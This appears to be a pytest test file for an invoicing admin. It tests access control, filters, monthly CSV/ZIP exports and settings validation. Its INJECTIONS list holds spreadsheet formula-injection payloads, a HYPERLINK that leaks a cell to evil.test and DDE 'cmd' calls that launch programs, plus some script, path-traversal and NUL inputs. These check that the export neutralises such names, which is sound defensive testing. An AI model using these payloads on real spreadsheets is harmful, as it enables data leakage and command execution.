"""The admin: documents with filters, the month's CSV and ZIP for the accountant (and what a
customer's name could do to a spreadsheet), the Invoicing settings page."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest

from kernel import clock
from kernel.accounts.services import create_user
from kernel.extensions import db
from kernel.models import AuditLog
from kernel.testing import login
from tests.invoices.conftest import customer, refund_payment, topup

PASSWORD = "customer-password-1"
INJECTIONS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.fixture
def admin(shop):
    with shop.app_context():
        create_user("boss@blockhost.test", PASSWORD, name="Boss", role="admin")
        db.session.remove()
    return login(shop, "boss@blockhost.test", PASSWORD)


@pytest.fixture
def month(shop):
    """March 2026: a French consumer, a French business (refunded in part), a US customer,
    customers with names made to attack spreadsheets; one invoice in April."""
    with shop.test_request_context():
        refund_payment(topup(customer("camille@example.fr", country="FR"), 1200), 600)
        topup(
            customer("achats@acme.fr", country="FR", company="ACME SARL", vat_id="FR40303265045"),
            5000,
        )
        topup(customer("sam@example.com", country="US", name="Sam Smith", city="Austin"), 2500)
        for index, name in enumerate(INJECTIONS):
            topup(
                customer(
                    f"evil{index}@example.fr",
                    country="FR",
                    name=name,
                    company=name if index % 2 else "",
                ),
                100,
            )
        clock.advance(timedelta(days=30))
        topup(customer("april@example.fr", country="FR"), 1000)
        clock.advance(timedelta(days=-30))
        db.session.remove()


def test_customers_and_support_cannot_open_the_invoice_admin(shop, month):
    with shop.app_context():
        create_user("helper@blockhost.test", PASSWORD, name="Helper", role="support")
        db.session.remove()
    customer_client = login(shop, "camille@example.fr", PASSWORD)
    helper = login(shop, "helper@blockhost.test", PASSWORD)
    for path in (
        "/admin/invoices/",
        "/admin/invoices/1",
        "/admin/invoices/1/pdf",
        "/admin/invoices/export?month=2026-03",
        "/admin/invoices/settings/",
    ):
        assert customer_client.get(path).status_code == 403
        assert helper.get(path).status_code == 403
    assert helper.post("/admin/invoices/settings/rates/eu").status_code == 403


def test_the_list_filters(admin, month):
    page = admin.get("/admin/invoices/")
    assert page.status_code == 200 and page.text.count("data-document=") == 12
    assert admin.get("/admin/invoices/?kind=credit_note").text.count("data-document=") == 1
    assert admin.get("/admin/invoices/?country=US").text.count("data-document=") == 1
    assert admin.get("/admin/invoices/?email=achats@acme.fr").text.count("data-document=") == 1
    assert admin.get("/admin/invoices/?month=2026-04").text.count("data-document=") == 1
    assert (
        admin.get("/admin/invoices/?start=2026-03-01&end=2026-03-31").text.count("data-document=")
        == 11
    )
    only = admin.get("/admin/invoices/?number=CN-2026-000001")
    assert only.text.count("data-document=") == 1 and "CN-2026-000001" in only.text
    for junk in (
        "?kind=<script>",
        "?country=ZZ",
        "?page=-5",
        "?page=999999999999",
        "?number=" + "9" * 500,
    ):
        assert admin.get("/admin/invoices/" + junk).status_code == 200
    nul = admin.get("/admin/invoices/?email=%00")  # the request gate, for every query string
    assert nul.status_code == 400 and "“email” contains a control character" in nul.text
    bad = admin.get("/admin/invoices/?month=2026-13")
    assert bad.status_code == 400 and "give a month as YYYY-MM" in bad.text


def test_a_documents_page_and_its_pdf(admin, month):
    page = admin.get("/admin/invoices/1")
    assert page.status_code == 200
    assert "INV-2026-000001" in page.text and "CN-2026-000001" in page.text
    assert "eu-destination" in page.text and "20 %" in page.text
    assert admin.get("/admin/invoices/1/pdf").data.startswith(b"%PDF-")
    for missing in ("/admin/invoices/999", "/admin/invoices/99999999999", "/admin/invoices/0/pdf"):
        assert admin.get(missing).status_code == 404


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so spreadsheets read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_months_csv_for_the_accountant(shop, admin, month):
    response = admin.get("/admin/invoices/export?month=2026-03&format=csv")
    assert response.status_code == 200
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="invoices_2026-03-01_2026-03-31.csv"'
    )
    header, *rows = read_csv(response.data)
    assert header[:3] == ["number", "kind", "issued_at"] and header[-4:] == [
        "net",
        "tax",
        "gross",
        "currency",
    ]
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert len(rows) == 11 and "INV-2026-000011" not in str(rows)  # April's is not in March
    camille = by_number["INV-2026-000001"]
    assert (
        camille["tax_rule"],
        camille["tax_country"],
        camille["rate_percent"],
        camille["net"],
        camille["tax"],
        camille["gross"],
    ) == ("eu-destination", "FR", "20.00", "10.00", "2.00", "12.00")
    credit = by_number["CN-2026-000001"]
    assert (credit["credits"], credit["net"], credit["tax"], credit["gross"]) == (
        "INV-2026-000001",
        "-5.00",
        "-1.00",
        "-6.00",
    )
    acme = by_number["INV-2026-000002"]
    assert (acme["buyer_vat_id"], acme["tax_rule"], acme["tax"]) == (
        "FR40303265045",
        "reverse-charge",
        "0.00",
    )
    assert by_number["INV-2026-000003"]["tax_rule"] == "export"
    with shop.app_context():
        assert db.session.scalar(
            db.select(AuditLog.details).where(AuditLog.action == "invoices.exported")
        ) == {"format": "csv", "documents": 11}


def test_no_cell_of_the_csv_runs_as_a_formula(admin, month):
    header, *rows = read_csv(admin.get("/admin/invoices/export?month=2026-03").data)
    amounts = {header.index(c) for c in ("net", "tax", "gross")}
    names = []
    for row in rows:
        for index, cell in enumerate(row):
            if index in amounts:
                assert re.fullmatch(r"-?[0-9]+\.[0-9]{2}", cell), cell  # numbers stay numbers
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        names.append(row[header.index("buyer_name")])
    for attack in INJECTIONS:  # shown, quoted, never dropped (the profile trimmed the blanks)
        assert "'" + attack.strip() in names


def test_the_months_zip_holds_the_csv_and_every_pdf(admin, month):
    response = admin.get("/admin/invoices/export?month=2026-03&format=zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    names = sorted(archive.namelist())
    assert "invoices_2026-03-01_2026-03-31.csv" in names
    pdfs = [n for n in names if n.startswith("pdf/")]
    assert len(pdfs) == 11 and "pdf/CN-2026-000001.pdf" in pdfs
    assert all(archive.read(n).startswith(b"%PDF-") for n in pdfs)
    assert all(".." not in n and not n.startswith("/") for n in names)


def test_a_bad_period_is_refused_with_the_reason(admin, month):
    for query, message in [
        ("month=march", "give a month"),
        ("month=2026-00", "give a month"),
        ("start=2026-03-31&end=2026-03-01", "ends before it starts"),
        ("start=2025-01-01&end=2026-03-01", "export at most 366 days"),
        ("", "give a month"),
        ("start=x&end=y", "give a month"),
        ("month=2026-03-01", "give a month"),
    ]:
        response = admin.get(f"/admin/invoices/export?{query}", follow_redirects=True)
        assert response.status_code == 200 and message in response.text, query
    nul = admin.get("/admin/invoices/export?month=%00")  # the request gate refuses it first
    assert nul.status_code == 400 and "“month” contains a control character" in nul.text


# --- the Invoicing settings page ---------------------------------------------------------------


def settings_form(**changes):
    form = {
        "seller_name": "Blockhost GmbH",
        "seller_address": "Hauptstraße 5\n10115 Berlin",
        "seller_country": "DE",
        "seller_vat_id": "DE136695976",
        "seller_tax_number": "",
        "seller_email": "billing@blockhost.test",
        "seller_footer": "Bank",
        "invoice_on": "topup",
        "prices": "gross",
        "eu_consumers": "destination",
        "topup_tax_class": "standard",
        "invoice_format": "INV-{year}-{number:06}",
        "credit_note_format": "CN-{year}-{number:06}",
        "receipt_format": "RCT-{year}-{number:06}",
        "email_documents": "1",
        "vies_url": "https://ec.europa.eu/taxation_customs/vies/rest-api",
        "reverse_charge_note": "Reverse charge.",
        "export_note": "Export.",
    }
    form.update(changes)
    return {k: v for k, v in form.items() if v is not None}


def current(shop, key):
    with shop.app_context():
        from kernel import settings_for

        value = settings_for("invoices")[key]
        db.session.remove()
        return value


def test_the_settings_page_saves_what_is_valid(shop, admin):
    page = admin.get("/admin/invoices/settings/")
    assert page.status_code == 200 and "Blockhost GmbH" in page.text
    saved = admin.post(
        "/admin/invoices/settings/",
        data=settings_form(
            seller_name="Blockhost AG", invoice_format="R{year}{number:05}", email_documents=None
        ),
    )
    assert saved.status_code == 303
    assert current(shop, "seller_name") == "Blockhost AG"
    assert current(shop, "invoice_format") == "R{year}{number:05}"
    assert current(shop, "email_documents") is False


REFUSED_SETTINGS = [
    ({"seller_country": "XX"}, "not an ISO 3166 code"),
    ({"seller_name": ""}, "legal name is not set"),
    ({"invoice_format": "{number}{number}"}, "exactly once"),
    ({"credit_note_format": "INV-{year}-{number:06}"}, "different number formats"),
    ({"seller_vat_id": "DE136695977"}, "not a valid EU VAT id"),
    ({"invoice_on": "everything"}, "choose one of"),
    ({"seller_name": "Evil\x00Corp"}, "“seller_name” contains a control character"),  # the gate
    ({"seller_footer": "x" * 1001}, "at most 1000"),
    ({"topup_tax_class": "Standard Rate"}, "not a class name"),
    ({"vies_url": "ftp://vies"}, "an http(s) URL"),
]


def test_the_settings_page_refuses_what_is_not(shop, admin):
    for changes, message in REFUSED_SETTINGS:
        response = admin.post("/admin/invoices/settings/", data=settings_form(**changes))
        assert response.status_code == 400 and message in response.text, changes
        assert current(shop, "seller_name") == "Blockhost GmbH"
        assert current(shop, "invoice_format") == "INV-{year}-{number:06}"


def test_rates_and_product_classes_from_the_admin(shop, admin):
    from builtin_plugins.invoices.models import TaxRate

    assert (
        admin.post(
            "/admin/invoices/settings/rates",
            data={"country": "NL", "tax_class": "standard", "rate": "21", "label": "BTW"},
        ).status_code
        == 303
    )
    refused = admin.post(
        "/admin/invoices/settings/rates",
        data={"country": "NL", "tax_class": "standard", "rate": "twenty", "label": ""},
    )
    assert refused.status_code == 400 and "not a percentage" in refused.text
    assert admin.post("/admin/invoices/settings/rates/eu").status_code == 303
    with shop.app_context():
        rates = {(r.country, r.tax_class): r for r in db.session.scalars(db.select(TaxRate))}
        assert rates[("NL", "standard")].rate_bp == 2100 and len(rates) == 29
        rate_id = rates[("FR", "reduced")].id
        from builtin_plugins.store.models import PricePlan, Product

        product = Product(
            name="Big",
            slug="big",
            provisioner="manual",
            description="",
            images=[],
            resources={},
            provisioner_settings={},
            active=True,
            featured=False,
            priority=0,
        )
        product.plans.append(
            PricePlan(
                kind="fixed",
                label="",
                period_unit="days",
                period_count=30,
                price=1000,
                min_slots=1,
                max_slots=1,
                slot_variable="",
            )
        )
        db.session.add(product)
        db.session.commit()
        product_id = product.id
        db.session.remove()
    assert admin.post(f"/admin/invoices/settings/rates/{rate_id}/delete").status_code == 303
    assert admin.post("/admin/invoices/settings/rates/99999/delete").status_code == 404
    assert (
        admin.post(
            f"/admin/invoices/settings/products/{product_id}", data={"tax_class": "reduced"}
        ).status_code
        == 303
    )
    assert (
        admin.post(
            f"/admin/invoices/settings/products/{product_id}", data={"tax_class": "../../etc"}
        ).status_code
        == 400
    )
    assert (
        admin.post(
            "/admin/invoices/settings/products/99999", data={"tax_class": "reduced"}
        ).status_code
        == 404
    )
    with shop.app_context():
        from builtin_plugins.invoices import taxes

        assert taxes.product_class(product_id) == "reduced"
        assert taxes.rate_for("FR", "reduced") == 2000  # deleted: FR standard applies
        db.session.remove()
    assert "reduced" in admin.get("/admin/invoices/settings/").text


def test_waiting_events_are_shown_and_retried_from_the_admin(shop, admin):
    with shop.test_request_context():
        topup(customer("it@example.it", country="IT", city="Roma"), 1220)
        db.session.remove()
    page = admin.get("/admin/invoices/settings/")
    assert "payment:1" in page.text and "no tax rate for Italy (IT)" in page.text
    admin.post(
        "/admin/invoices/settings/rates",
        data={"country": "IT", "rate": "22", "tax_class": "standard"},
    )
    retried = admin.post("/admin/invoices/settings/retry", follow_redirects=True)
    assert "1 of 1 waiting documents issued." in retried.text
    assert "Nothing waits." in retried.text
